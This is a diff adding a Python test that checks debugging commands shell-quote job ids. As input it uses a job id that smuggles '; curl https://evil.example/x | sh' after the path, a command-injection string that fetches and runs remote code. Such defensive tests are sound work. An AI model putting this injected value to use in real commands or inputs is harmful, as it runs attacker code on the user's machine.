@@ -92,3 +92,14 @@ def test_debug_commands_name_each_job():
         in cmds
     )
     assert sum("/a" in c for c in cmds) == 3
+
+
+def test_debug_commands_quote_a_job_id_for_the_shell():
+    """The job id is what the PR worktree's submit script printed: pasted into a shell, the
+    debugging commands ran whatever followed a ``;`` in it; each word is quoted now."""
+    import shlex
+
+    evil = "/u/datakit-tier1-pr7-g1; curl https://evil.example/x | sh #"
+    for cmd in debug_commands([evil], "lib/iris/config/marin.yaml"):
+        words = shlex.split(cmd)
+        assert evil in words and "curl" not in words, cmd
